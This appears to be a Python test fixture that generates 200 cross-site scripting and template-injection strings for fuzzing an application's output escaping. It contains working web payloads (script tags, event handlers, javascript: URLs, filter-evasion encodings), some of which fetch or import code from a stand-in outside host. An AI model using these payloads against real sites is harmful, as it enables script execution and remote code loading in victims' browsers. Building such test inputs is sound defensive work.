"""Strings that try to become markup or script, each with a mark that shows where it ran."""

from itertools import product

from tests.support.soak import share

#: What would run it: a flag that a test reads, a dialog, a request to another host.
_DOES = ("window.pwned=1", "alert(1)", "fetch('http://198.51.100.7/')", "import('http://x.test/')")
_FORMS = (
    "<script>{0}</script>",
    "</script><script>{0}</script>",
    "<img src=x onerror={0}>",
    '"><img src=x onerror={0}>',
    "'><svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<iframe src=javascript:{0}>",
    "<a href=javascript:{0} autofocus onfocus={0}>x</a>",
    "<body onload={0}>",
    "<details open ontoggle={0}>",
    "<video><source onerror={0}></video>",
    "<input autofocus onfocus={0}>",
    "<math><mtext><style><img src onerror={0}></style></mtext></math>",
    "<template><script>{0}</script></template>",
    "<object data=javascript:{0}></object>",
    "<embed src=javascript:{0}>",
    "<form action=javascript:{0}><button autofocus>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<link rel=stylesheet href=http://198.51.100.7/ onload={0}>",
    "<base href=http://198.51.100.7/><script src=x>{0}</script>",
    "<style>@import 'http://198.51.100.7/{0}';</style>",
    "<div style=background:url(http://198.51.100.7/)>{0}</div>",
    "javascript:{0}",
    "data:text/html,<script>{0}</script>",
    "${{{0}}}",
    "{{{{constructor.constructor('{0}')()}}}}",
    "`;{0}//",
    "';{0};//",
    '\\";{0};//',
    "<!--><script>{0}</script-->",
    "<![CDATA[<script>{0}</script>]]>",
    "<x contenteditable onblur={0} tabindex=1>",
    "<marquee onstart={0}>",
    "<img src=http://198.51.100.7/{0}.png>",
    "<scr<script>ipt>{0}</script>",
    "\uff1cscript\uff1e{0}\uff1c/script\uff1e",
    "\u202e<script>{0}</script>",
    "<script\x0b>{0}</script>",
    "<img src=x:x onerror\x0c={0}>",
    "<svg/onload={0}>",
    "<script src=//198.51.100.7/>{0}</script>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'></noscript>",
    "<audio src=x onerror={0}>",
    "<select><option><script>{0}</script></select>",
    "<textarea></textarea><script>{0}</script>",
    "<title></title><script>{0}</script>",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;img src=x onerror={0}&#62;",
    "__proto__ <script>{0}</script>",
)


def markup_strings() -> list[str]:
    """200 of them, all different."""
    found = [form.format(does) for form, does in product(_FORMS, _DOES)]
    assert len(set(found)) == 200
    return found


def some_markup_strings() -> list[str]:
    """Each form once, with what it does in turns; in ``make soak`` each with all."""
    whole = enumerate(markup_strings())
    return [one for at, one in whole if share() or at % 4 == at // 4 % 4]
